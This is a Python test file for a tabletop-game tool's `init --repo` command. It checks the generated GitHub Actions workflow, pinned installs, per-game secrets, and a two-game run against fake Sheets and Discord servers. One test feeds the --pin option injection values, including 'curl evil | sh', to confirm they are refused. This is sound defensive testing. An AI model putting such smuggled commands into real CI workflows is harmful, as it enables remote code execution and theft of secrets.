"""A game repository as `sheetmaster init --repo DIR` writes it: what a GM's games need and
nothing else, a workflow that installs a pinned sheetmaster and runs the games as a matrix,
each game's secrets under names of its own at repository level (issue 28.3, 28.4); run here
against the fake Sheets API and a fake Discord with two games. (The workflow is linted with
the project's own in tests/test_workflows.py.)"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
import yaml

from sheetmaster import __version__, rules
from sheetmaster.app.cli import main
from sheetmaster.app.exits import Exit
from sheetmaster.app.gamerepo import TEMPLATES, WORKFLOW, default_pin, write_repo
from sheetmaster.engine import builder
from sheetmaster.engine.builder import build_state
from sheetmaster.kit.fairness import for_sheet, turn_dice
from sheetmaster.testing.fakediscord import FakeDiscord
from sheetmaster.testing.fakesheets import FakeSheetsServer
from sheetmaster.testing.fakesheets.upload import upload_state

ROOT = Path(__file__).resolve().parents[1]
posix_shell = pytest.mark.skipif(sys.platform == "win32",
                                 reason="runs the workflow's bash scripts with a POSIX PATH")


def example_games_toml() -> str:
    """The two Google Sheet games games.toml's template shows, uncommented."""
    lines = (TEMPLATES / "games.toml").read_text(encoding="utf-8").splitlines()
    start = lines.index("# [[game]]")
    end = next(i for i, line in enumerate(lines) if line.startswith("# A workbook game"))
    return "\n".join(line[2:] for line in lines[start:end]) + "\n"


def example_repo(folder: Path) -> Path:
    """``init --repo`` for a repository whose games.toml lists the two example games."""
    write_repo(folder)
    (folder / "games.toml").write_text(example_games_toml(), encoding="utf-8")
    write_repo(folder)
    return folder


def files_of(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


def workflow(folder: Path) -> dict:
    return yaml.safe_load((folder / WORKFLOW).read_text(encoding="utf-8"))


def job_step(data: dict, job: str, word: str) -> dict:
    (found,) = [s for s in data["jobs"][job]["steps"] if word in s.get("run", "")]
    return found


# --- what init --repo writes --------------------------------------------------------------------

def test_init_repo_writes_what_a_game_repository_needs_and_nothing_else(tmp_path, capsys):
    repo = tmp_path / "our-games"
    assert main(["init", "--repo", str(repo)]) == Exit.OK
    assert files_of(repo) == {"games.toml", "README.md", ".gitignore", WORKFLOW.as_posix()}
    out = capsys.readouterr().out
    assert "wrote .github/workflows/nightly.yml" in out and default_pin() in out
    # the project's CI, tests and sources stay in the project
    assert not (repo / ".github" / "workflows" / "ci.yml").exists()
    assert "*.dice-secret" in (repo / ".gitignore").read_text(encoding="utf-8")
    readme = (repo / "README.md").read_text(encoding="utf-8")
    assert "## For players" in readme and "## For the GM" in readme
    assert default_pin() in readme and "__" not in readme


def test_the_workflow_installs_a_pinned_sheetmaster_and_never_the_checkout(tmp_path):
    repo = example_repo(tmp_path)
    text = (repo / WORKFLOW).read_text(encoding="utf-8")
    assert "pip install ." not in text and "__" not in text
    pin = f"sheetmaster @ git+https://github.com/sheetmaster/sheetmaster@v{__version__}"
    assert default_pin() == pin
    data = workflow(repo)
    for job in ("games", "resolve"):
        install = next(s for s in data["jobs"][job]["steps"] if s.get("name") ==
                       "Install sheetmaster")
        assert install["run"] == 'python -m pip install "$SHEETMASTER"'
        assert install["env"]["SHEETMASTER"] == pin


def test_another_pin_is_taken_and_a_pin_that_is_no_requirement_is_refused(tmp_path, capsys):
    pin = "sheetmaster @ git+https://github.com/me/sheetmaster@0123456789abcdef"
    assert main(["init", "--repo", str(tmp_path), "--pin", pin]) == Exit.OK
    data = workflow(tmp_path)
    assert data["jobs"]["resolve"]["steps"][2]["env"]["SHEETMASTER"] == pin
    for bad in ('sheetmaster"; curl evil | sh; "', "sheetmaster\nrun: evil", "requests"):
        assert main(["init", "--repo", str(tmp_path), "--pin", bad]) == Exit.USAGE
    assert "--pin" in capsys.readouterr().err
    assert workflow(tmp_path)["jobs"]["resolve"]["steps"][2]["env"]["SHEETMASTER"] == pin


def test_init_repo_again_keeps_the_gms_files_and_schedule_and_hands_on_new_secrets(tmp_path):
    write_repo(tmp_path)
    path = tmp_path / WORKFLOW
    path.write_text(path.read_text(encoding="utf-8").replace('"17 5 * * *"', '"41 22 * * 1-5"'),
                    encoding="utf-8")
    (tmp_path / "README.md").write_text("# Our games\n", encoding="utf-8")
    (tmp_path / "games.toml").write_text(example_games_toml(), encoding="utf-8")
    done = write_repo(tmp_path)
    assert done.cron == "41 22 * * 1-5"
    assert (tmp_path / "README.md").read_text(encoding="utf-8") == "# Our games\n"
    data = workflow(tmp_path)
    assert data[True]["schedule"] == [{"cron": "41 22 * * 1-5"}]
    env = job_step(data, "resolve", "nightly")["env"]
    for name in ("AVALON_DICE_SECRET", "ISLES_DISCORD_PLAYER_WEBHOOKS",
                 "SHEETMASTER_DICE_SECRET", "SHEETMASTER_SERVICE_ACCOUNT_JSON"):
        assert env[name].replace(" ", "") == f"${{{{secrets.{name}}}}}"


def test_init_needs_a_sheet_or_a_repo_and_not_both(tmp_path, capsys):
    assert main(["init"]) == Exit.USAGE
    assert "--repo DIR" in capsys.readouterr().err
    assert main(["init", "--repo", str(tmp_path), "--sheet", "x", "--rules", "claims"]) == \
        Exit.USAGE
    assert "--sheet, --rules" in capsys.readouterr().err


def test_the_listing_stops_when_games_toml_names_a_secret_the_workflow_does_not_hand_on(
        tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write_repo(tmp_path)  # no game yet: the workflow hands on the default names only
    (tmp_path / "games.toml").write_text(example_games_toml(), encoding="utf-8")
    listing = ["games", "games.toml", "--github-matrix", "--workflow", WORKFLOW.as_posix()]
    assert main(listing) == Exit.USAGE
    err = capsys.readouterr().err
    assert "AVALON_DICE_SECRET" in err and "sheetmaster init --repo ." in err
    assert main(["init", "--repo", "."]) == Exit.OK
    capsys.readouterr()
    assert main(listing) == Exit.OK
    assert '"environment":"isles"' in capsys.readouterr().out


# --- two games, run as the workflow runs them ---------------------------------------------------

EXPRESSION = re.compile(r"\$\{\{\s*([\w.]+)\s*\}\}")


def evaluate(value: object, context: dict[str, dict[str, str]]) -> str:
    """A step's env value as the runner gives it: ``${{ ctx.name }}`` looked up, '' if unset."""
    def lookup(found: re.Match) -> str:
        kind, _, name = found.group(1).partition(".")
        return str(context.get(kind, {}).get(name, ""))
    return EXPRESSION.sub(lookup, str(value))


def run_step(step: dict, folder: Path, context: dict, extra: dict[str, str]
             ) -> subprocess.CompletedProcess:
    """A workflow step's script in ``folder`` with the real sheetmaster, its env evaluated
    and nothing else of this process's environment (no secret leaks in from the test)."""
    env = {name: evaluate(value, context) for name, value in step.get("env", {}).items()}
    bin_dir = Path(sys.executable).parent
    env.update(extra, PATH=f"{bin_dir}{os.pathsep}/usr/bin{os.pathsep}/bin",
               HOME=str(folder))
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c",
                           step["run"]], capture_output=True, text=True, timeout=300,
                          env=env, cwd=folder)


def example_game(ruleset_name: str):
    ruleset = rules.get(ruleset_name)
    tables, orders, settings = builder.example_game(ruleset)
    deadline = datetime.now(timezone.utc) - timedelta(hours=1)
    settings = {k: v for k, v in settings.items() if k != "seed"}
    settings.update(timezone="UTC", deadline=deadline.strftime("%Y-%m-%d %H:%M"))
    turn = 2 if any(r.get("turn") for r in tables.get("War results", [])) else 1
    return build_state(ruleset, tables, orders, turn=turn, settings=settings)


@posix_shell
def test_two_games_with_repository_secrets_of_their_own_names_on_the_fake_sheets(tmp_path):
    with FakeSheetsServer() as sheets, FakeDiscord() as discord:
        avalon, isles = example_game("claims"), example_game("clans")
        # each laid out as `init` does with its own game's secret: protected and bound
        ids = {"avalon": upload_state(sheets, avalon, env_secret="avalon's dice secret"),
               "isles": upload_state(sheets, isles, env_secret="isles' dice secret")}
        repo = tmp_path / "repo"
        write_repo(repo)
        toml = example_games_toml().replace("1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_aBcD",
                                            ids["avalon"])
        toml = toml.replace("1ZyXwVuTsRqPoNmLkJiHgFeDcBa9876543210_-AbCd", ids["isles"])
        toml = toml.replace('environment = "isles"', "")  # free plan, private repository
        (repo / "games.toml").write_text(toml, encoding="utf-8")
        (repo / "maps").mkdir()
        shutil.copy(ROOT / "templates" / "claims-example-map.png", repo / "maps" / "avalon.png")
        write_repo(repo)
        # the repository's secrets: each game's own, under the names games.toml gives it
        secrets = {
            "AVALON_DICE_SECRET": "avalon's dice secret",
            "ISLES_DICE_SECRET": "isles' dice secret",
            "AVALON_DISCORD_WEBHOOK": discord.webhook("avalon public"),
            "AVALON_DISCORD_PLAYER_WEBHOOKS": f"GM = {discord.webhook('avalon gm')}\n"
                                              f"Bretagne = {discord.webhook('avalon Bretagne')}",
            "ISLES_DISCORD_WEBHOOK": discord.webhook("isles public"),
            "ISLES_DISCORD_PLAYER_WEBHOOKS": f"GM = {discord.webhook('isles gm')}\n"
                                             f"Kuroda = {discord.webhook('isles Kuroda')}",
            # what a game that names no secret would read: no game here may read it
            "SHEETMASTER_DICE_SECRET": "nobody's dice secret",
        }
        fake = {"SHEETMASTER_SHEETS_ENDPOINT": sheets.url, "SHEETMASTER_RETRY_DEADLINE": "5"}
        data = workflow(repo)
        assert data["jobs"]["resolve"]["environment"] == "${{ matrix.environment }}"

        checkout = tmp_path / "listing"
        shutil.copytree(repo, checkout)
        output = checkout / "github_output"
        done = run_step(job_step(data, "games", "games.toml"), checkout, {},
                        {"GITHUB_OUTPUT": str(output), **fake})
        assert done.returncode == 0, done.stderr
        outputs = dict(line.split("=", 1) for line in output.read_text().splitlines())
        matrix = json.loads(outputs["matrix"])
        assert matrix == {"include": [{"game": "avalon", "environment": ""},
                                      {"game": "isles", "environment": ""}]}

        for entry in matrix["include"]:  # each matrix job: a fresh checkout of its own
            job = tmp_path / entry["game"]
            shutil.copytree(repo, job)
            context = {"matrix": entry, "secrets": secrets, "inputs": {}}
            done = run_step(job_step(data, "resolve", "nightly"), job, context, fake)
            assert done.returncode == 0, done.stdout + done.stderr
            assert "resolved" in done.stdout
            assert (job / "turn-report.md").exists()
            assert (job / "private-reports" / entry["game"] / "gm.md").exists()
            for secret in secrets.values():
                assert secret.rsplit("/", 1)[-1] not in done.stdout + done.stderr

    tabs = {name: {row[0]: row[1] for row in sheets.values(sid, "Game")[1:]}
            for name, sid in ids.items()}
    for name, state in (("avalon", avalon), ("isles", isles)):
        turn = setting(state, "turn")
        assert str(tabs[name]["turn"]) == str(turn + 1)
        # its dice came from its own secret, bound to its sheet
        own = turn_dice(for_sheet(secrets[f"{name.upper()}_DICE_SECRET"], ids[name]), turn)
        assert str(tabs[name]["last dice seed"]) == str(own.seed)
    # each game's reports reached its own channels, and only those
    assert {m.webhook for m in discord.messages} == {
        "avalon public", "avalon gm", "avalon Bretagne", "isles public", "isles gm",
        "isles Kuroda"}
    for name, state in (("avalon", avalon), ("isles", isles)):
        title = setting(state, "game")
        for channel in (f"{name} public", f"{name} gm", *(c for c in ("avalon Bretagne",
                                                                      "isles Kuroda")
                                                          if c.startswith(name))):
            assert discord.to(channel)[0].content.startswith(f"**{title}: turn "), channel
    # each player's own report (composed for Discord: its title is the first message's)
    assert "## Bretagne" in discord.text("avalon Bretagne")
    assert "## Kuroda" in discord.text("isles Kuroda")


def setting(state, name: str):
    game = state.tables["Game"]
    return game.loc[game["setting"] == name, "value"].iloc[0]
